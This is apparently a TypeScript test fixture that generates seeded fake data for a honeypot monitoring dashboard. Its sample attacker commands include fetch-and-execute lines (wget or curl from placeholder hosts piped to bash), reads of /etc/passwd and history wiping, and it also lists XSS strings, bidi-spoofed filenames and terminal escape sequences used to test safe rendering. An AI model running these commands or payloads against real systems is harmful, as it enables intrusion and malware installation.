import type {
  AttackerDetail,
  Command,
  Credential,
  Decky,
  LogEvent,
  Session,
  Sighting,
  TimelineItem,
} from "../src/api/model.ts";

/** A repeatable world for looking at pages and for browser tests: the same seed gives the same rows. */
export function mulberry(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

export interface World {
  readonly deckies: Decky[];
  readonly attackers: AttackerDetail[];
  readonly sessions: Session[];
  readonly commands: Command[];
  readonly credentials: Credential[];
  readonly sightings: (Sighting & { readonly attacker: string })[];
  /** Oldest first. */
  readonly events: LogEvent[];
  timeline(uuid: string): TimelineItem[];
  /** Makes one more event, as of now. */
  next(): LogEvent;
}

const hostile = [
  "<img src=x onerror=alert(1)>",
  "root\u202e\u2066txt.exe",
  "ad\u200bmin\u0007\u001b[31mred",
  "javascript:alert(1)",
  "\u001b]0;owned\u0007",
];
const users = ["root", "admin", "ubuntu", "oracle", "pi", "test", "postgres", ...hostile];
const passwords = [
  "123456",
  "password",
  "root",
  "admin",
  "qwerty",
  "1234",
  "P@ssw0rd",
  "",
  "toor",
  hostile[0] ?? "",
];
const commandTexts = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | head -n 1",
  "w",
  "free -m | grep Mem",
  "ls -la /root",
  "cd /tmp || cd /var/run; wget http://198.51.100.77/x86 -O .x; chmod +x .x; ./.x",
  "crontab -l",
  "cat /etc/passwd",
  "echo -e '\\x41\\x4b' > /dev/shm/.k",
  "curl -s http://203.0.113.9/i.sh | bash",
  "history -c",
  "id",
  "ps aux | grep -v grep | grep -i miner",
  `echo "${"A".repeat(900)}"`,
  "printf '\u001b]52;c;aGVsbG8=\u0007'",
];
const paths = [
  "/.env",
  "/wp-login.php",
  "/admin/",
  "/cgi-bin/luci/;stok=/locale",
  "/actuator/health",
  "/?q=<script>alert(1)</script>",
];
const countries = ["CN", "US", "RU", "NL", "DE", "BR", "VN", "IN", null];

const hex = (random: () => number, digits: number): string =>
  Array.from({ length: digits }, () => Math.floor(random() * 16).toString(16)).join("");
const uuidOf = (random: () => number): string =>
  `${hex(random, 8)}-${hex(random, 4)}-4${hex(random, 3)}-8${hex(random, 3)}-${hex(random, 12)}`;

export function createWorld(seed: number, now: number, eventCount: number): World {
  const random = mulberry(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
  const iso = (at: number) => new Date(at).toISOString();
  const day = 86_400_000;

  const deckies: Decky[] = ["web-01", "files-02", "db-03"].map((name, index) => ({
    name,
    hostname: name,
    kind: "local",
    host: "local",
    archetype: "linux-server",
    state: index === 2 ? "starting" : "running",
    detail: null,
    addresses: ["127.0.0.1"],
    services: [
      { name: "ssh", port: 2200 + index, command: `ssh -p ${2200 + index} root@127.0.0.1` },
      { name: "http", port: 8080 + index, command: `curl http://127.0.0.1:${8080 + index}/` },
    ].map((service) => ({
      ...service,
      title: service.name.toUpperCase(),
      hint: service.name === "ssh" ? "root / 123456" : null,
      transport: "tcp" as const,
      address: "127.0.0.1",
      state: "running" as const,
    })),
    hits: Math.floor(random() * 9000),
    last_event_at: iso(now - index * 47_000),
  }));

  const attackers: AttackerDetail[] = Array.from({ length: 240 }, (_, index) => {
    const seen = now - Math.floor(random() ** 2 * day * 3);
    const country = pick(countries);
    const decoys = deckies.slice(0, 1 + Math.floor(random() * 3)).map(({ name }) => name);
    const services = random() > 0.5 ? ["ssh", "http"] : [random() > 0.5 ? "ssh" : "http"];
    const count = Math.floor(random() ** 3 * 4000) + 1;
    return {
      uuid: uuidOf(random),
      ip: index % 17 === 3 ? `2001:db8:${hex(random, 4)}::${hex(random, 4)}` : `203.0.113.${index % 250}`,
      ip_version: index % 17 === 3 ? 6 : 4,
      ip_scope: country === null ? "private" : "global",
      confirmed: random() > 0.06,
      first_seen: iso(seen - Math.floor(random() * day)),
      last_seen: iso(seen),
      event_count: count,
      service_count: services.length,
      decky_count: decoys.length,
      session_count: Math.ceil(count / 20),
      credential_count: Math.floor(count / 6),
      bounty_count: 0,
      services,
      deckies: decoys,
      is_traversal: decoys.length > 1,
      traversal_path: decoys.length > 1 ? decoys.join(" → ") : null,
      country_code: country,
      asn: country === null ? null : 64_500 + (index % 12),
      as_name: country === null ? null : `EXAMPLE-NET-${index % 12} Ltd`,
      ptr_record: index % 9 === 0 ? "host-<b>bold</b>.example" : null,
      activity: count > 2000 ? "active" : count > 300 ? "passive" : "inactive",
      behavior_class: pick(["brute_force", "scanning", "interactive", "scripted", null]),
      actor_kind: null,
      benign: index % 41 === 7,
      bgp_prefix: null,
      service_activity: services.map((service) => ({
        service,
        kind: random() > 0.4 ? "interacted" : "scanned",
        event_count: Math.ceil(count / services.length),
        first_seen: iso(seen - day),
        last_seen: iso(seen),
      })),
      deckies_seen: decoys.map((decky) => ({
        decky,
        event_count: count,
        first_seen: iso(seen - day),
        last_seen: iso(seen),
      })),
      counts: {
        events: count,
        sessions: 4,
        sessions_open: index === 0 ? 1 : 0,
        commands: 40,
        credentials: 30,
        artifacts: 3,
      },
    } as AttackerDetail;
  });

  const sessions: Session[] = Array.from({ length: 180 }, (_, index) => {
    const attacker = attackers[index % 60] as AttackerDetail;
    const isOpen = index < 3;
    const started = isOpen ? now - 60_000 * (index + 1) : now - Math.floor(random() * day);
    const length = isOpen ? (now - started) / 1000 : random() ** 2 * 900;
    const commandsRun = index % 4 === 3 ? 0 : isOpen ? 6 : Math.floor(random() * 14);
    return {
      session_id: uuidOf(random),
      sid: uuidOf(random),
      conn: hex(random, 16),
      decky: pick(deckies).name,
      service: "ssh",
      attacker_uuid: attacker.uuid,
      attacker_ip: attacker.ip,
      country_code: attacker.country_code,
      remote_port: 40_000 + index,
      state: isOpen ? "open" : "closed",
      started_at: iso(started),
      last_event_at: iso(started + length * 1000),
      ended_at: isOpen ? null : iso(started + length * 1000),
      duration_s: length,
      end_reason: isOpen ? null : pick(["closed", "disconnect", "lost"]),
      event_count: commandsRun * 2 + 4,
      command_count: commandsRun,
      auth_attempts: 3,
      auth_failures: 2,
      auth_success: 1,
      login_user: pick(users),
      bytes_in: Math.floor(random() * 4000),
      bytes_out: Math.floor(random() * 90_000),
      files_captured: index % 7 === 0 ? 1 : 0,
      mails_stored: 0,
      hassh: null,
      client_banner: "SSH-2.0-libssh_0.9.6",
      transcript: {
        available: commandsRun > 0,
        truncated: index % 31 === 5,
        bytes: 4000,
        width: 80,
        height: 24,
      },
      class: isOpen ? null : pick(["interactive", "scripted", "brute_force"]),
      last_command: commandsRun > 0 ? pick(commandTexts) : null,
      last_command_known: true,
      revision: 0,
    } as Session;
  });

  const commands: Command[] = sessions.flatMap((session) =>
    Array.from({ length: session.command_count }, (_, n) => ({
      id: `${session.session_id}#${n}`,
      session_id: session.session_id,
      attacker_uuid: session.attacker_uuid,
      decky: session.decky,
      service: session.service,
      n,
      at: iso(Date.parse(session.started_at) + 3000 + n * 4200),
      command_text: commandTexts[n % commandTexts.length] ?? "",
      truncated: false,
      uid: "0",
      user: "root",
      src: session.attacker_ip,
      pwd: "/root",
      exit_code: n % 5 === 4 ? 127 : 0,
      known: n % 6 !== 5,
      event_seq: n,
    })),
  );

  const credentials: Credential[] = Array.from({ length: 400 }, (_, index) => {
    const attacker = attackers[index % 90] as AttackerDetail;
    const secret = pick(passwords);
    return {
      id: String(index),
      attacker_uuid: attacker.uuid,
      attacker_ip: attacker.ip,
      country_code: attacker.country_code,
      decky: pick(deckies).name,
      service: "ssh",
      principal: index % 29 === 4 ? null : pick(users),
      secret_kind: index % 13 === 2 ? "ssh_publickey" : "plaintext",
      secret_printable: secret,
      secret_b64: btoa(encodeURIComponent(secret)),
      secret_sha256: hex(random, 64),
      masked: false,
      outcome: random() > 0.85 ? "success" : random() > 0.05 ? "failure" : null,
      first_seen: iso(now - day),
      last_seen: iso(now - Math.floor(random() * day)),
      attempt_count: 1 + Math.floor(random() ** 3 * 60),
      success_count: 0,
    };
  }).sort((a, b) => (a.last_seen < b.last_seen ? 1 : -1));

  const sightings = Array.from({ length: 30 }, (_, index) => ({
    attacker: (attackers[index % 10] as AttackerDetail).uuid,
    event_id: hex(random, 32),
    sha256: hex(random, 64),
    kind: "file" as const,
    decky: "web-01",
    service: "ssh",
    stored_as: `x_${index}`,
    session_id: sessions[index]?.session_id ?? null,
    orig_path: index % 5 === 2 ? "/tmp/\u202efdp.exe<script>" : "/tmp/.x",
    method: "shell",
    at: iso(now - index * 3_000_000),
    size: Math.floor(random() * 900_000),
    mime: "application/x-executable",
    state: "present",
  }));

  let seq = 0;
  const event = (at: number): LogEvent => {
    seq += 1;
    const attacker = attackers[Math.floor(random() ** 2 * attackers.length)] as AttackerDetail;
    const decky = pick(deckies).name;
    const kinds = [
      "auth_attempt",
      "auth_attempt",
      "auth_attempt",
      "command",
      "command",
      "connect",
      "disconnect",
      "request",
      "request",
      "session_started",
      "session_recorded",
      "file_captured",
      "startup",
      "odd_thing",
    ];
    const type = pick(kinds);
    const isHttp = type === "request";
    const fieldsOf: Record<string, Record<string, string>> = {
      auth_attempt: {
        principal: pick(users),
        secret_printable: pick(passwords),
        secret_b64: "eA==",
        method: "password",
        outcome: random() > 0.9 ? "success" : "failure",
      },
      command: { cmd: pick(commandTexts), cwd: "/root", exit_code: "0", n: "3" },
      request: { method: "GET", path: pick(paths), status: "404", user_agent: "Mozilla/5.0 zgrab/0.x" },
      session_started: { kind: "shell", user: "root" },
      session_recorded: { duration_s: "41.220", bytes: "5230" },
      file_captured: { orig_path: "/tmp/.x", sha256: hex(random, 64), size: "42211" },
      odd_thing: { constructor: "own key", __proto__x: "y", note: pick(hostile) },
    };
    const isSystem = type === "startup";
    return {
      id: hex(random, 32),
      seq,
      time: iso(at - 3),
      received: iso(at),
      decky,
      service: isHttp ? "http" : "ssh",
      event_type: type,
      attacker_ip: isSystem ? null : attacker.ip,
      attacker_uuid: isSystem ? null : attacker.uuid,
      country_code: isSystem ? null : attacker.country_code,
      attribution: isSystem ? "none" : "field",
      origin: isSystem ? "system" : "attacker",
      severity: type === "file_captured" ? 4 : type === "auth_attempt" && random() > 0.9 ? 5 : 6,
      user: null,
      session_id: null,
      conn: hex(random, 16),
      msg: "",
      fields: fieldsOf[type] ?? {},
      benign: false,
    };
  };
  const events = Array.from({ length: eventCount }, (_, index) => {
    const age = (1 - index / eventCount) ** 1.6 * day;
    return event(now - age);
  });

  return {
    deckies,
    attackers,
    sessions,
    commands,
    credentials,
    sightings,
    events,
    next: () => {
      const made = event(Date.now());
      events.push(made);
      return made;
    },
    timeline: (uuid) =>
      [
        ...sessions
          .filter((session) => session.attacker_uuid === uuid)
          .map((session) => ({
            at: session.started_at,
            kind: "session" as const,
            id: session.session_id,
            decky: session.decky,
            service: session.service,
            ended_at: session.ended_at,
            session_id: session.session_id,
            detail: session.login_user,
            count: session.command_count,
          })),
        ...sightings
          .filter((sighting) => sighting.attacker === uuid)
          .map((sighting) => ({
            at: sighting.at,
            kind: "file" as const,
            id: sighting.event_id,
            decky: sighting.decky,
            service: sighting.service,
            ended_at: null,
            session_id: sighting.session_id,
            detail: sighting.orig_path,
            count: sighting.size,
          })),
        ...credentials
          .filter((credential) => credential.attacker_uuid === uuid && credential.outcome === "success")
          .map((credential) => ({
            at: credential.last_seen,
            kind: "login" as const,
            id: credential.id,
            decky: credential.decky,
            service: credential.service,
            ended_at: null,
            session_id: null,
            detail: credential.principal,
            count: credential.attempt_count,
          })),
      ].sort((a, b) => (a.at < b.at ? 1 : -1)),
  };
}
